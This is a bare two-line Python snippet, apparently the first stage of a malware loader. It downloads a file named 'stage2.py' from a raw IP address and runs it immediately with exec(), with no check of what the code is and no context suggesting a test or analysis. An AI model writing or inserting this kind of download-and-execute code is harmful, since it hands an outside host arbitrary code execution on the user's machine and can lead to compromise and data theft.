import urllib.request
exec(urllib.request.urlopen('http://203.0.113.7/stage2.py').read())
